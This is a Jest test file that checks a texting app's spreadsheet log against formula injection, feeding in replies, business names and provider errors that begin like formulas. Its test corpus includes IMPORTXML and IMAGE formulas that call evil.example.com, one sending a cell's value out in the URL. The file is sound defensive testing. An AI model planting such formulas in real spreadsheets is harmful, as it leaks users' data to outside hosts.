/** Texts from outside that begin like formulas: answers, names, settings and the provider's own words. None becomes a formula in any cell. */
import { ask, formulasOf, linesOf, SETTINGS, tabNames, use } from '../shop';
import { CANARY, phoneOf, sendingShop, tickAfter, timesSent, unapprovedShop, visible } from './sendingShop';

const CORPUS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '=IMPORTXML("https://evil.example.com","//a")',
  '=HYPERLINK("https://evil.example.com","stop")',
  "'=1+1",
  '=IMAGE("https://evil.example.com/?"&A1) stop',
];

function formulas({ host }: ReturnType<typeof sendingShop>): string[] {
  return formulasOf(host, tabNames(host));
}

test('answers stand in the log as text, each of them', () => {
  const shop = sendingShop(5);
  CORPUS.forEach((words, index) => void shop.network.reply(phoneOf(index % 5), `${words} ${index}`));
  shop.host.call('tick');
  tickAfter(shop, 60);
  expect(formulas(shop)).toEqual([]);
  expect(linesOf(shop.host, 'Contact log')).toHaveLength(CORPUS.length);
  expect(linesOf(shop.host, 'Consent')[0]?.['Wording']).toContain('stop');
});

test("the provider's words for a refusal stand nowhere as a formula, and show neither number nor key", () => {
  const shop = sendingShop(5);
  const real = shop.network.fetch;
  let index = 0;
  jest.spyOn(shop.network, 'fetch').mockImplementation((request) => {
    if (request.method !== 'post') return real(request);
    const message = `${CORPUS[index++ % CORPUS.length] ?? ''} +14135550101 ${CANARY}`;
    return { status: 400, body: JSON.stringify({ code: 21211, message, status: 400, more_info: message }) };
  });
  shop.host.call('tick');
  expect(formulas(shop)).toEqual([]);
  expect(linesOf(shop.host, 'Texts').map(({ Status }) => Status)).toEqual(Array(5).fill('Not delivered'));
  expect([visible(shop.host), JSON.stringify(shop.host.logs)].join().includes(CANARY)).toBe(false);
});

test.each(CORPUS)('a business named %j makes texts, not formulas', (name) => {
  const shop = unapprovedShop(2);
  ask(shop.host, 'saveSettings', { ...SETTINGS, 'Business name': name });
  use(shop.host, 'prepareTexts');
  expect(formulas(shop)).toEqual([]);
  expect(timesSent(shop)).toEqual([0, 0]);
});
